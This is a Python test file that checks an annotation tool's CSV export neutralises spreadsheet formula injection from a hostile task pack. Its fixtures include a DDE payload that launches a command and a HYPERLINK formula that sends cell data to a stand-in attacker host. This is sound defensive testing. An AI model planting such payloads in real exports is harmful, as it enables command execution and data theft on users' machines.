"""Issue 12 case 9: strings from a hostile pack never become spreadsheet formulas in the worker's CSV."""
from __future__ import annotations

import csv
import io
from datetime import timezone

from annotator.core import keys
from annotator.core.metering import exports, verify
from tests.core.metering.helpers import add_pack, replay
from tests.core.metering.traces import Trace

LAB = "=cmd|' /C calc'!A0"
ITEMS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+SUM(1,2)", "@SUM(A1)", "\tTAB", "-2+3+cmd|' /C calc'!A0"]
FORMULA = ("=", "+", "-", "@", "\t", "\r")


def test_hostile_pack_strings_are_neutralised_in_every_csv_cell(tmp_path, store, registry):
    add_pack(tmp_path, store, registry, pack_id="-evil.pack", title="=1+1", lab=LAB)
    tr = Trace()
    for item in ITEMS:
        tr.view("task", pack="-evil.pack", item=item, phase="work").wait(30, input_every=3)
    replay(store, tr.quit())
    path = tmp_path / "t.csv"
    exports.write_export(store, path, "csv", tz=timezone.utc, tz_name="UTC")
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))
    cells = [c for row in rows for c in row]
    for cell in cells:
        assert not cell.startswith(FORMULA) or cell.lstrip("+-").replace(".", "", 1).isdigit(), cell
    for hostile in ITEMS + [LAB, "-evil.pack"]:
        assert "'" + hostile in cells, hostile  # shown as text, whole
    assert verify.verify_file(path, pin=keys.Pin.installation(store.data_dir)).ok
